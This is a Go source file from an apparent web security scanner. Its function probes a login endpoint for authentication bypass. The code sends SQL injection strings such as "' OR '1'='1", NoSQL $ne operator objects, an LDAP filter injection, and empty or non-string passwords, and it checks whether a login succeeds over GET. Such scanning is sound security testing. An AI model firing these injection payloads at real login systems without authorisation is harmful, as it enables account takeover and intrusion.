package attack

import (
	"context"
	"encoding/json"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
)

// holds reports whether a request carries a password.
func holds(r Request, password string) bool {
	return password != "" && slices.Contains(slices.Collect(maps.Values(fields(r))), password)
}

// fields are the strings of a log-in's body.
func fields(r Request) map[string]string {
	texts := map[string]string{}
	var all map[string]any
	if json.Unmarshal([]byte(r.Body), &all) == nil {
		for name, value := range all {
			if text, ok := value.(string); ok {
				texts[name] = text
			}
		}
		return texts
	}
	form, err := url.ParseQuery(r.Body)
	for name := range form {
		if err == nil {
			texts[name] = form.Get(name)
		}
	}
	return texts
}

// alike reports whether a response is one of a log-in that went well, as the other
// one is: with the same members, or the same cookies.
func alike(got, good Response) bool {
	if got.Status != good.Status {
		return false
	}
	var one, two map[string]any
	if json.Unmarshal(good.Body, &two) == nil && len(two) > 0 && len(good.Header["Set-Cookie"]) == 0 {
		return json.Unmarshal(got.Body, &one) == nil && slices.Equal(slices.Sorted(maps.Keys(one)), slices.Sorted(maps.Keys(two)))
	}
	set := func(r Response) []string {
		j := cookies{}
		j.take(r)
		return slices.Sorted(maps.Keys(j))
	}
	return len(set(good)) > 0 && slices.Equal(set(got), set(good))
}

// bypasses logs in by GET, and without the password: with objects and quotes in
// its place.
func (s *scan) bypasses(ctx context.Context, c *Client) {
	if s.door.Path == "" {
		return
	}
	all := fields(s.door)
	name, password := "", ""
	for field, text := range all {
		switch text {
		case s.target.Bob.Name:
			name = field
		case s.target.Bob.Password:
			password = field
		}
	}
	if name == "" || password == "" {
		return
	}
	with := func(user, secret any) Request {
		values := map[string]any{}
		for field, text := range all {
			values[field] = text
		}
		values[name], values[password] = user, secret
		r := s.door
		if json.Valid([]byte(r.Body)) {
			raw, err := json.Marshal(values)
			if err == nil {
				r.Body = string(raw)
			}
			return r
		}
		form := url.Values{}
		for field, value := range values {
			if text, ok := value.(string); ok {
				form.Set(field, text)
			} else {
				form.Set(field+"[$ne]", "attack")
			}
		}
		r.Body = form.Encode()
		return r
	}
	if wrong, ok := s.send(ctx, c, with("attack-nobody", "attack-1")); !ok || alike(wrong, s.inside) {
		return // its responses do not tell who is in
	}
	bob, injected, not := s.target.Bob.Name, "' OR '1'='1", map[string]any{"$ne": "attack"}
	for how, r := range map[string]Request{
		"an object in place of the password": with(bob, not),
		"objects in place of both":           with(not, not),
		"true in place of the password":      with(bob, true),
		"a list in place of the password":    with(bob, []string{"attack"}),
		"a quote in the name":                with(bob+"' -- ", "attack-1"),
		"a quote in the password":            with(bob, injected),
		"a quote in both":                    with(injected, injected),
		"a filter of LDAP in the name":       with(bob+")(|(uid=*", "attack-1"),
		"an empty password":                  with(bob, ""),
	} {
		if got, ok := s.send(ctx, c, r); ok && alike(got, s.inside) {
			s.found(loginBypass, "", c.wire(r), "%s: status %d", how, got.Status)
		}
	}
	form := url.Values{}
	for field, text := range all {
		form.Set(field, text)
	}
	r := Request{Method: http.MethodGet, Path: s.door.Path + "?" + form.Encode(), Header: s.door.Header}
	if strings.Contains(s.door.Path, "?") {
		return
	}
	if got, ok := s.send(ctx, c, r); ok && alike(got, s.inside) {
		s.found(passwordInQuery, "", c.wire(r), "status %d for GET", got.Status)
	}
}
